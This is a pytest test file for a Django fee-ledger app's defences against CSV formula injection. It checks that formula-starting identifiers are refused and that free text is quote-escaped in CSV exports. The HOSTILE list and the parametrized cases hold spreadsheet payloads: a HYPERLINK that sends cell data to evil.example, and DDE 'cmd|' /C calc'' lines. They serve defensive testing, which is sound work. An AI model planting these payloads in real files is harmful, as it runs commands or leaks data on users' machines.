"""CSV formula injection (issue 23): identifiers a spreadsheet would run as a formula are refused where the ledger
reads them; free text reaches the CSV files escaped the way OWASP recommends (a ' before it), on both CSV paths
(Python, and PostgreSQL's COPY) byte for byte, while the JSON files keep the exact text and columns.json says so."""

import csv
import datetime
import io
import json
import zipfile
from decimal import Decimal

import pytest
from django.db import connection

from cardroom import bundle, keys
from exports import build, collect
from fees.models import CollectionEntry, RoundOfPlay

from tests.exports.test_export_json_stream import _Zip
from tests.exports.test_exports import month  # noqa: F401  (the fixture)

pytestmark = pytest.mark.django_db
ENTRIES = "/api/v1/ledger/entries/"
# Free text beginning with each formula start. (A carriage return leads too, but Python's csv module leaves a cell
# holding one unquoted where COPY quotes it, so it is checked apart: test_a_carriage_return_start_is_escaped.)
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]


def row(table, **changes):
    return {"idempotency_key": "k-1", "table": table.pk, "gaming_day": "2026-03-03", "reference": "H-9",
            "collected_at": "2026-03-03T02:30:00-08:00", "payer": "player", "seat": 1, "fee_kind": "player",
            "amount": "1.00", **changes}


# -- identifiers are refused -------------------------------------------------------------------------------------

@pytest.mark.parametrize("field", ["reference", "player", "idempotency_key"])
@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://evil.example\")", "+1+cmd|' /C calc'!A0", "-2+3",
                                   "@SUM(1+1)", " =1+1"])
def test_an_identifier_a_spreadsheet_would_run_is_refused_naming_field_and_row(api, people, month, field,  # noqa: F811
                                                                              value):
    api.force_authenticate(people.floor)
    good = row(month["table"], idempotency_key="k-0")
    answer = api.post(ENTRIES + "bulk/", {"entries": [good, row(month["table"], **{field: value})]}, format="json")
    assert answer.status_code == 400, answer.json()
    said = answer.json()["error"]["message"]
    assert f"entries[1].{field}: must not begin with {value.strip()[0]!r}" in said and "formula" in said
    single = api.post(ENTRIES, row(month["table"], **{field: value}), format="json")
    assert single.status_code == 400 and f"{field}: must not begin with" in single.json()["error"]["message"]
    assert CollectionEntry.objects.count() == 2  # the fixture's own


def test_a_batch_key_or_round_reference_a_spreadsheet_would_run_is_refused(api, people, month):  # noqa: F811
    api.force_authenticate(people.floor)
    good = row(month["table"])
    del good["idempotency_key"]
    answer = api.post(ENTRIES + "bulk/", {"idempotency_key": "=1+1", "entries": [good]}, format="json")
    assert answer.status_code == 400
    assert "The batch idempotency_key must not begin with '='" in answer.json()["error"]["message"]
    rounds = RoundOfPlay.objects.count()
    answer = api.post("/api/v1/ledger/rounds/", {
        "table": month["table"].pk, "reference": "@SUM(1+1)", "played_at": "2026-03-03T03:00:00-08:00",
        "facts": {"wagers": [{"player": "p1", "base": "10"}]}}, format="json")
    assert answer.status_code == 400 and "reference must not begin with '@'" in answer.json()["error"]["message"]
    assert RoundOfPlay.objects.count() == rounds
    # An identifier with such a character later on is fine: only the first character starts a formula.
    assert api.post(ENTRIES, row(month["table"], reference="H-9=1", player="p+1"), format="json").status_code == 201


# -- free text is escaped in CSV, exact in JSON --------------------------------------------------------------------

def stored_hostile(month):  # noqa: F811
    """Rows recorded before the identifiers were checked (or by another door), and corrections whose reasons hold
    every formula start: free text may say anything."""
    first = CollectionEntry.objects.order_by("id").first()
    made = []
    for i, text in enumerate(HOSTILE):
        made.append(CollectionEntry.objects.create(
            idempotency_key=f"old-{i}", establishment=first.establishment, table=first.table,
            gaming_day=first.gaming_day, reference=text[:60], collected_at=first.collected_at, payer="player",
            seat=None, player=text[:60], fee_kind="player", amount="0.50", currency="USD",
            corrects=first if i == 0 else made[-1], reason=text, recorded_at=first.recorded_at))
    return made


def files(kind_name, scope, monkeypatch, from_postgresql):
    monkeypatch.setattr(collect, "use_copy", lambda: from_postgresql)
    kind = next(k for k in collect.KINDS if k.name == kind_name)
    out = _Zip()
    build._write_csv(out, kind, scope, build.Progress(2, None))
    build._write_json(out, kind, scope, build.Progress(2, None))
    return out.files[f"{kind_name}.csv"].getvalue(), out.files[f"{kind_name}.json"].getvalue()


def scope_of(people):
    return collect.ExportScope(establishments=[people.marysville], start=datetime.date(2026, 3, 1),
                               end=datetime.date(2026, 3, 31)).freeze()


def check_escaped(csv_bytes, json_bytes):
    rows = list(csv.DictReader(io.StringIO(csv_bytes.decode())))[-len(HOSTILE):]
    records = json.loads(json_bytes)[-len(HOSTILE):]
    for text, cells, record in zip(HOSTILE, rows, records):
        for column in ("reference", "player", "reason"):
            assert cells[column] == "'" + record[column], column  # the CSV's text, escaped
        assert record["reason"] == text and record["player"] == text[:60]  # the JSON's, exact
        assert cells["amount"] == record["amount"] == "0.50"
        assert cells["idempotency_key"].startswith("old-") and cells["payer"] == "player"


def test_free_text_is_escaped_in_the_csv_and_exact_in_the_json(people, month, monkeypatch):  # noqa: F811
    stored_hostile(month)
    scope = scope_of(people)
    check_escaped(*files("ledger_entries", scope, monkeypatch, False))
    # A number is never escaped, a negative one included: collected short of expected.
    (day,) = csv.DictReader(io.StringIO(files("fees_by_table_day", scope, monkeypatch, False)[0].decode()))
    assert day["difference"].startswith("-") and day["difference"] == str(Decimal(day["collected"])
                                                                          - Decimal(day["expected"]))
    assert build.csv_cell("-5.00") == "'-5.00" and build.csv_cell(Decimal("-5.00")) == "-5.00"
    assert build.csv_cell("") == "" and build.csv_cell("a=1") == "a=1"


@pytest.mark.services
def test_the_csv_from_postgresql_is_the_python_paths_byte_for_byte(people, month, monkeypatch):  # noqa: F811
    assert connection.vendor == "postgresql", "this test needs PostgreSQL (bin/test's second pass)"
    stored_hostile(month)
    first = CollectionEntry.objects.order_by("id").first()
    RoundOfPlay.objects.create(establishment=first.establishment, table=first.table, gaming_day=first.gaming_day,
                               reference="=1+1", played_at=first.collected_at, facts={}, schedule_code="+GEGA",
                               posting=month["posting"],
                               schedule_version=1, option_number=1, expected_total="0.00", currency="USD")
    scope = scope_of(people)
    for name in ("ledger_entries", "rounds"):
        streamed = files(name, scope, monkeypatch, True)
        python = files(name, scope, monkeypatch, False)
        assert streamed[0] == python[0], name  # CSV
        assert streamed[1] == python[1], name  # JSON
    check_escaped(*files("ledger_entries", scope, monkeypatch, True))
    rounds_csv, rounds_json = files("rounds", scope, monkeypatch, True)
    assert b",'=1+1," in rounds_csv
    assert b",'+GEGA," in rounds_csv and json.loads(rounds_json)[-1]["schedule"] == "+GEGA"
    from psycopg import sql

    with connection.cursor() as cursor:  # a carriage return first is escaped as the Python path does it
        cursor.execute(sql.SQL("SELECT {}").format(sql.SQL(collect.ESCAPED).format(
            sql.Literal("\r=1+1"), sql.SQL(", ").join(sql.Literal(c) for c in collect.FORMULA_STARTS))))
        assert cursor.fetchone() == (build.csv_cell("\r=1+1"),)


def test_columns_json_says_which_cells_are_escaped_and_the_bundle_verifies(people, month, tmp_path):  # noqa: F811
    stored_hostile(month)
    scope = collect.ExportScope(establishments=[people.marysville], start=datetime.date(2026, 3, 1),
                                end=datetime.date(2026, 3, 31))
    build.build(scope, tmp_path / "b.zip", requested_by="test")
    assert bundle.verify(tmp_path / "b.zip", keys.public_key()).ok
    with zipfile.ZipFile(tmp_path / "b.zip") as zf:
        columns = json.loads(zf.read("columns.json"))
    said = columns["ledger_entries"]["csv_escaping"]
    assert "single quote (') before it" in said and "=, +, -, @, a tab or a carriage return" in said
    assert "JSON file holds the exact text" in said and "-5.00" in said


def test_a_carriage_return_start_is_escaped():
    assert build.csv_cell("\r=1+1") == "'\r=1+1" and build.csv_cell("\t=1+1") == "'\t=1+1"
